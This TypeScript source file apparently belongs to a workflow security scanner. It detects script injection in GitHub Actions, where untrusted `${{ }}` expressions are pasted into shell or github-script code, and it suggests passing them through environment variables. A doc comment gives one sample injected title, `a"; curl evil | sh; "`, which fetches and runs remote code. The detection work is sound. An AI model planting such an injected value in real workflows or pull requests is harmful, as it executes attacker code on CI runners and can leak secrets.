import { scalarText } from "../../formats/yaml.js";
import { defineCheck } from "../define.js";
import { atOffset, clip, finding, onWorkflow } from "./common.js";
import { anchorExpression, jobAnchor, withValue } from "./model.js";
import { describeSource } from "./taint.js";
import { injectionSeverity, triggerPhrase } from "./triggers.js";

/**
 * `${{ }}` is substituted into a script's text before the shell sees it, so
 * an attacker-written title like `a"; curl evil | sh; "` becomes code. The fix
 * is to hand the value over as an environment variable, which the shell never
 * parses as code.
 */
export const scriptInjection = defineCheck({
  kind: "snapshot",
  name: "actions/script-injection",
  families: ["actions"],
  rules: ["actions/script-injection"],
  run: onWorkflow((input) => {
    const { wf } = input;
    const severity = injectionSeverity(wf);
    const out = [];
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        const targets = [];
        if (step.run) targets.push({ node: step.run, where: "script" });
        const uses = scalarText(step.uses)?.toLowerCase() ?? "";
        if (uses.startsWith("actions/github-script@")) {
          const { entry } = withValue(step, "script");
          if (entry?.value && "value" in entry.value && typeof entry.value.value === "string") {
            targets.push({ node: entry.value as import("yaml").Scalar, where: "github-script code" });
          }
        }
        for (const { node, where } of targets) {
          const text = String(node.value ?? "");
          for (const hit of input.taint().taintedExpressions(text, job, step)) {
            const source = hit.sources[0]!;
            // Shown as written (case and spacing kept); the anchor uses the canonical form.
            const expr = text.slice(hit.expression.start, hit.expression.end);
            const envName = suggestEnvName((hit.facts.values[0] ?? []).join(".") || source.origin);
            out.push(
              finding({
                ruleId: "actions/script-injection",
                at: atOffset(wf, node, hit.expression.start),
                severity,
                message: `\`${clip(expr, 100)}\` is pasted into the ${where} before it runs, and an outsider controls ${describeSource(source)}: they can run commands ${triggerPhrase(wf)}.`,
                fix: `Pass it through env: (\`${envName}: ${clip(expr, 80)}\`) and use "$${envName}" in the ${where === "script" ? "script" : "code (process.env)"}.`,
                // A trigger change that makes the same expression reachable with secrets is a new problem.
                anchor: `${jobAnchor(job, step)}/${anchorExpression(hit.facts.text, wf, job)}${severity === "critical" ? "@privileged" : ""}`,
                evidence: clip(expr, 200),
              }),
            );
          }
        }
      }
    }
    return out;
  }),
});

/** A readable variable name for the fix: `github.event.pull_request.title` → `PR_TITLE`. */
export function suggestEnvName(path: string): string {
  const skip = new Set(["*", "github", "event", "steps", "needs", "outputs", "env", "inputs"]);
  const parts = path.split(".").filter((p) => !skip.has(p) && !/^\d+$/.test(p));
  const last = parts.at(-1) ?? "";
  const picked = last.includes("_") || parts.length < 2 ? [last] : parts.slice(-2);
  const name = picked
    .join("_")
    .replace(/pull_request/g, "PR")
    .replace(/[^A-Za-z0-9]+/g, "_")
    .replace(/^_+|_+$/g, "")
    .toUpperCase();
  return /^[A-Z]/.test(name) ? name : "VALUE";
}
